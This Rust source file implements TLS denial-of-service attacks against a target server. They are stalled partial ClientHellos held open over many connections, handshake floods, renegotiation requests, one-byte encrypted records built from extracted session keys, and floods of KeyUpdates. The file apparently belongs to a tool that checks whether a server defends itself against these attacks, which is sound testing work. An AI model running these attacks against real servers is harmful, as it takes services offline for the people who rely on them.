//! Attacks on the TLS handshake, and with TLS records after it.

use std::error::Error;
use std::io::{self, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use thalweg::tls::CertificateDer;
use thalweg::tls::rustls::client::ClientConnection;
use thalweg::tls::rustls::crypto::aws_lc_rs;
use thalweg::tls::rustls::crypto::cipher::{MessageEncrypter, OutboundPlainMessage};
use thalweg::tls::rustls::pki_types::ServerName;
use thalweg::tls::rustls::pki_types::pem::PemObject;
use thalweg::tls::rustls::{
    AlertDescription, CipherSuite, ClientConfig, ConnectionTrafficSecrets, ContentType, ProtocolVersion,
    RootCertStore, SupportedCipherSuite, SupportedProtocolVersion,
};

use super::outcome::{CloseInfo, ConnectionEnd, Outcome};

/// An attack on TLS.
pub(crate) enum TlsWork {
    /// Several connections send part of a ClientHello and nothing more.
    Stall(fn(&[u8]) -> &[u8]),
    /// Successive connections send these bytes and wait for their end.
    Knock(fn() -> Vec<u8>),
    /// Repeated complete handshakes.
    Handshakes,
    /// Records on one connection, after its handshake.
    Records {
        version: &'static SupportedProtocolVersion,
        first: fn(&mut Records),
        round: fn(&mut Records, u64),
    },
    /// Repeated KeyUpdates, each of which requires one in response (RFC 8446 §4.6.3).
    KeyUpdates,
}

/// Target, end and trusted CA of an attack.
pub(crate) struct Siege<'a> {
    pub(crate) target: &'a str,
    pub(crate) authority: &'a Path,
    pub(crate) connections: usize,
    pub(crate) until: Instant,
}

/// Length of a record header: type, version, length (RFC 8446 §5.1).
const RECORD_HEAD_LEN: usize = 5;
/// Bytes buffered before a write.
const WRITE_LEN: usize = 32 * 1024;
/// Write timeout, after which the server is considered to have ended the attack.
const WRITE_PATIENCE: Duration = Duration::from_secs(5);

type Fallible<T> = Result<T, Box<dyn Error>>;

impl TlsWork {
    pub(crate) fn run(&self, siege: &Siege<'_>) -> Fallible<Outcome> {
        let mut outcome = Outcome::new();
        match self {
            Self::Stall(part) => siege.stall(*part, &mut outcome)?,
            Self::Knock(bytes) => {
                println!("attacking");
                siege.knock(&bytes(), &mut outcome);
            }
            Self::Handshakes => {
                println!("attacking");
                siege.shake_hands(&mut outcome)?;
            }
            Self::Records { version, first, round } => {
                siege.send_records(version, *first, *round, &mut outcome)?;
            }
            Self::KeyUpdates => siege.update_keys(&mut outcome)?,
        }
        outcome.lasted = outcome.began.elapsed();
        Ok(outcome)
    }
}

impl Siege<'_> {
    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }

    pub(crate) fn connect(&self) -> io::Result<TcpStream> {
        let stream = TcpStream::connect(self.target)?;
        stream.set_nodelay(true)?;
        stream.set_write_timeout(Some(WRITE_PATIENCE))?;
        Ok(stream)
    }

    fn config(&self, version: &'static SupportedProtocolVersion) -> Fallible<Arc<ClientConfig>> {
        self.config_for(version, b"h2")
    }

    pub(crate) fn config_for(
        &self,
        version: &'static SupportedProtocolVersion,
        protocol: &[u8],
    ) -> Fallible<Arc<ClientConfig>> {
        let mut roots = RootCertStore::empty();
        roots.add(CertificateDer::from_pem_file(self.authority)?)?;
        let mut provider = aws_lc_rs::default_provider();
        // With this cipher, records can be built manually in both versions.
        let chacha20 = [
            CipherSuite::TLS13_CHACHA20_POLY1305_SHA256,
            CipherSuite::TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256,
            CipherSuite::TLS_ECDHE_RSA_WITH_CHACHA20_POLY1305_SHA256,
        ];
        provider.cipher_suites.retain(|suite| chacha20.contains(&suite.suite()));
        let mut config = ClientConfig::builder_with_provider(Arc::new(provider))
            .with_protocol_versions(&[version])?
            .with_root_certificates(roots)
            .with_no_client_auth();
        config.alpn_protocols = vec![protocol.to_vec()];
        config.enable_secret_extraction = true;
        config.resumption = thalweg::tls::rustls::client::Resumption::disabled();
        Ok(Arc::new(config))
    }

    /// Connects and completes a handshake.
    pub(crate) fn shake(&self, config: &Arc<ClientConfig>) -> Fallible<(TcpStream, ClientConnection)> {
        let mut stream = self.connect()?;
        let mut connection = ClientConnection::new(Arc::clone(config), localhost())?;
        while connection.is_handshaking() || connection.wants_write() {
            connection.complete_io(&mut stream)?;
        }
        Ok((stream, connection))
    }

    fn stall(&self, part: fn(&[u8]) -> &[u8], outcome: &mut Outcome) -> Fallible<()> {
        let hello = hello(&self.config(&TLS13)?)?;
        let mut stalled = Vec::new();
        for _ in 0..self.connections {
            let Ok(mut stream) = self.connect() else { break };
            let part = part(&hello);
            if stream.write_all(part).is_ok() {
                outcome.sent_bytes += part.len() as u64;
            }
            let seen = watch(&stream)?;
            stalled.push((stream, seen));
        }
        println!("attacking");
        outcome.connections = stalled.len();
        while !self.is_over() && stalled.iter().any(|(_, seen)| seen.end().is_none()) {
            thread::sleep(Duration::from_millis(50));
        }
        outcome.ends = stalled.iter().filter_map(|(_, seen)| seen.end()).collect();
        Ok(())
    }

    fn knock(&self, bytes: &[u8], outcome: &mut Outcome) {
        while !self.is_over() {
            // A server that refuses further connections has defended itself too.
            let Ok(mut stream) = self.connect() else { break };
            outcome.connections += 1;
            // The server may close before it has read everything.
            let _ = stream.write_all(bytes);
            outcome.sent_bytes += bytes.len() as u64;
            let left = self.until.saturating_duration_since(Instant::now()).max(Duration::from_millis(1));
            let _ = stream.set_read_timeout(Some(left));
            if let Some(how) = end_of(&mut stream) {
                outcome.ends.push(CloseInfo { at: Instant::now(), how });
            }
        }
    }

    fn shake_hands(&self, outcome: &mut Outcome) -> Fallible<()> {
        let config = self.config(&TLS13)?;
        while !self.is_over() {
            match self.shake(&config) {
                Ok((stream, _)) => {
                    outcome.connections += 1;
                    let _ = stream.shutdown(Shutdown::Both);
                }
                Err(error) => {
                    outcome.ends.push(CloseInfo { at: Instant::now(), how: error.to_string() });
                    break;
                }
            }
        }
        Ok(())
    }

    fn send_records(
        &self,
        version: &'static SupportedProtocolVersion,
        first: fn(&mut Records),
        round: fn(&mut Records, u64),
        outcome: &mut Outcome,
    ) -> Fallible<()> {
        let config = self.config(version)?;
        let (mut stream, connection) = self.shake(&config)?;
        let seen = watch(&stream)?;
        let mut records = Records::behind(connection, hello(&config)?[RECORD_HEAD_LEN..].to_vec())?;
        println!("attacking");
        outcome.connections = 1;
        first(&mut records);
        for number in 0.. {
            if self.is_over() || seen.end().is_some() {
                break;
            }
            round(&mut records, number);
            if records.out.len() >= WRITE_LEN {
                match stream.write_all(&records.out) {
                    Ok(()) => outcome.sent_bytes += records.out.len() as u64,
                    Err(error) => seen.note(|| format!("writing failed: {error}")),
                }
                outcome.sent_frames = records.sequence;
                records.out.clear();
            }
        }
        outcome.ends.extend(seen.end_in_time());
        Ok(())
    }

    fn update_keys(&self, outcome: &mut Outcome) -> Fallible<()> {
        let (mut stream, mut connection) = self.shake(&self.config(&TLS13)?)?;
        let seen = watch(&stream)?;
        println!("attacking");
        outcome.connections = 1;
        while !self.is_over() && seen.end().is_none() {
            let mut out = Vec::new();
            while out.len() < WRITE_LEN {
                connection.refresh_traffic_keys()?;
                connection.write_tls(&mut out)?;
                outcome.sent_frames += 1;
            }
            match stream.write_all(&out) {
                Ok(()) => outcome.sent_bytes += out.len() as u64,
                Err(error) => seen.note(|| format!("writing failed: {error}")),
            }
        }
        outcome.ends.extend(seen.end_in_time());
        Ok(())
    }
}

pub(crate) use thalweg::tls::rustls::version::{TLS12, TLS13};

fn localhost() -> ServerName<'static> {
    ServerName::try_from("localhost").expect("a valid name")
}

/// Returns the record of a ClientHello.
fn hello(config: &Arc<ClientConfig>) -> Fallible<Vec<u8>> {
    let mut connection = ClientConnection::new(Arc::clone(config), localhost())?;
    let mut hello = Vec::new();
    while connection.wants_write() {
        connection.write_tls(&mut hello)?;
    }
    Ok(hello)
}

/// Builder of records encrypted as the client's, with any content.
pub(crate) struct Records {
    seal: Box<dyn MessageEncrypter>,
    sequence: u64,
    out: Vec<u8>,
    hello: Vec<u8>,
}

impl Records {
    fn behind(connection: ClientConnection, hello: Vec<u8>) -> Fallible<Self> {
        let suite = connection.negotiated_cipher_suite().ok_or("no cipher suite was agreed on")?;
        let (sequence, secrets) = connection.dangerous_extract_secrets()?.tx;
        let ConnectionTrafficSecrets::Chacha20Poly1305 { key, iv } = secrets else {
            return Err("another cipher suite was agreed on than was offered".into());
        };
        let seal = match suite {
            SupportedCipherSuite::Tls13(suite) => suite.aead_alg.encrypter(key, iv),
            SupportedCipherSuite::Tls12(suite) => suite.aead_alg.encrypter(key, iv.as_ref(), &[]),
        };
        Ok(Self { seal, sequence, out: Vec::new(), hello })
    }

    /// Appends a record with these bytes.
    pub(crate) fn record(&mut self, typ: ContentType, bytes: &[u8]) {
        let version = ProtocolVersion::TLSv1_2;
        let plain = OutboundPlainMessage { typ, version, payload: bytes.into() };
        let sealed = self.seal.encrypt(plain, self.sequence).expect("an AEAD seals what is short");
        self.sequence += 1;
        self.out.extend(sealed.encode());
    }

    /// Appends another ClientHello, which requests renegotiation (RFC 5246 §7.4.1.2).
    pub(crate) fn hello_again(&mut self) {
        let hello = self.hello.clone();
        self.record(ContentType::Handshake, &hello);
    }

    /// Appends each byte in its own record.
    pub(crate) fn byte_by_byte(&mut self, bytes: &[u8]) {
        for byte in bytes {
            self.record(ContentType::ApplicationData, &[*byte]);
        }
    }
}

fn watch(stream: &TcpStream) -> io::Result<Arc<ConnectionEnd>> {
    let (mut reader, seen) = (stream.try_clone()?, Arc::<ConnectionEnd>::default());
    let watched = Arc::clone(&seen);
    thread::spawn(move || {
        if let Some(how) = end_of(&mut reader) {
            watched.note(|| how);
        }
    });
    Ok(seen)
}

/// Discards input until the connection ends. Returns the plaintext alert or another reason, or `None` on timeout.
fn end_of(stream: &mut TcpStream) -> Option<String> {
    let mut alert = None;
    loop {
        let mut head = [0; RECORD_HEAD_LEN];
        if let Err(error) = stream.read_exact(&mut head) {
            return match error.kind() {
                io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut => None,
                io::ErrorKind::UnexpectedEof => alert.or_else(|| Some("closed".to_owned())),
                _ => alert.or_else(|| Some(error.to_string())),
            };
        }
        let mut payload = vec![0; usize::from(u16::from_be_bytes([head[3], head[4]]))];
        if stream.read_exact(&mut payload).is_ok()
            && ContentType::from(head[0]) == ContentType::Alert
            && let [_, description] = payload[..]
        {
            alert = Some(format!("alert {:?}", AlertDescription::from(description)));
        }
    }
}
